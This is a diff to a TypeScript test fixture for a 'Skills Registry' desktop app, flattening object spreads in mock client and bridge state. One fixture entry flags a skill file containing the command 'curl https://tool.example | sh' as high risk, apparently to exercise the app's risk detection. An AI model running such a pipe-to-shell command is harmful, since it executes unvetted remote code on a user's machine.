@@ -59,15 +59,15 @@ declare global {
 }
 
 const client = (id: ClientState['id'], name: string, more: Partial<ClientState>): ClientState => ({
-  ...{
-    id,
-    name,
-    installed: true,
-    settingsFile: `/home/someone/.${id}.json`,
-    connection: { state: 'absent' },
-  },
-  ...{ snippet: '{ "mcpServers": {} }', place: `~/.${id}.json` },
-  ...{ writable: true, ...more },
+  id,
+  name,
+  installed: true,
+  settingsFile: `/home/someone/.${id}.json`,
+  connection: { state: 'absent' },
+  snippet: '{ "mcpServers": {} }',
+  place: `~/.${id}.json`,
+  writable: true,
+  ...more,
 });
 
 /** A client in every state that a row can show. */
@@ -78,7 +78,10 @@ export const CLIENTS: readonly ClientState[] = [
   }),
   client('zed', 'Zed', {
     connection: {
-      ...{ state: 'outdated', name: 'skills-registry', by: 'address', says: 'http://127.0.0.1:9999/mcp' },
+      state: 'outdated',
+      name: 'skills-registry',
+      by: 'address',
+      says: 'http://127.0.0.1:9999/mcp',
     },
   }),
   client('gemini-cli', 'Gemini CLI', {
@@ -88,7 +91,8 @@ export const CLIENTS: readonly ClientState[] = [
     },
   }),
   client('claude-desktop', 'Claude Desktop', {
-    ...{ installed: false, ways: ['command'], takesPointer: false, note: 'Restart it afterwards.' },
+    installed: false,
+    note: 'Restart it afterwards.',
   }),
 ];
 
@@ -98,15 +102,23 @@ export function bridgeState(url: string, changes: Partial<BridgeState> = {}): Br
   const recentRegistries = [FOLDER, '/home/someone/src/payments/.skills', '/mnt/team/registry'];
   return {
     info: {
-      ...{ name: 'Skills Registry', version: '0.1.0', platform: 'linux', electron: '45.4.1' },
-      ...{ chrome: '152.0.0.0', node: '24.9.0', hasTray: true, firstStart: false },
+      name: 'Skills Registry',
+      version: '0.1.0',
+      platform: 'linux',
+      electron: '45.4.1',
+      chrome: '152.0.0.0',
+      node: '24.9.0',
+      hasTray: true,
+      firstStart: false,
       settingsFile: '/home/someone/.config/skills-registry/settings.json',
       logsFolder: '/home/someone/.config/skills-registry/logs',
     },
     settings: {
       settings: { ...DEFAULT_SETTINGS, registry: FOLDER, recentRegistries, port: Number(new URL(url).port) },
       recentRegistries: recentRegistries.map((path) => ({
-        ...{ path, reachable: !path.startsWith('/mnt'), current: path === FOLDER },
+        path,
+        reachable: !path.startsWith('/mnt'),
+        current: path === FOLDER,
       })),
       startAtLogin: { state: 'off' },
     },
@@ -118,9 +130,15 @@ export function bridgeState(url: string, changes: Partial<BridgeState> = {}): Br
       status: statusOf({ mcpUrl: `${url}/mcp` }),
       pending: [],
     },
-    ...{ notices: [], registries: {}, refusals: {}, held: [], clients: CLIENTS },
+    notices: [],
+    registries: {},
+    refusals: {},
+    held: [],
+    clients: CLIENTS,
     added: { registries: [], trouble: null, checking: [], addition: { state: 'none' } },
-    ...{ preview: undefined, changes: {}, ...changes },
+    preview: undefined,
+    changes: {},
+    ...changes,
   };
 }
 
@@ -206,7 +224,10 @@ function simulateBridge(given: BridgeState): void {
     },
     getClients: () => given.clients,
     previewClient: () => ({
-      ...{ ok: true, file: '/home/someone/settings.json', exists: true, token: '0'.repeat(32) },
+      ok: true,
+      file: '/home/someone/settings.json',
+      exists: true,
+      token: '0'.repeat(32),
       diff: [
         { kind: 'same', text: '{' },
         { kind: 'added', text: '  "mcpServers": {}' },
@@ -223,10 +244,13 @@ function simulateBridge(given: BridgeState): void {
             : { state: 'shown', preview: given.preview, isAdding: false },
       }),
     readPreviewedSkill: ({ key }) => ({
-      ...{ key, change: 'added', risk: [null, 'high'] },
+      key,
+      change: 'added',
+      risk: [null, 'high'],
       files: [
         {
-          ...{ path: 'pitfalls.md', change: 'added' },
+          path: 'pitfalls.md',
+          change: 'added',
           notes: [{ kind: 'command', text: 'curl https://tool.example | sh' }],
           diff: [[{ kind: 'added', text: '# Pitfalls' }]],
         },
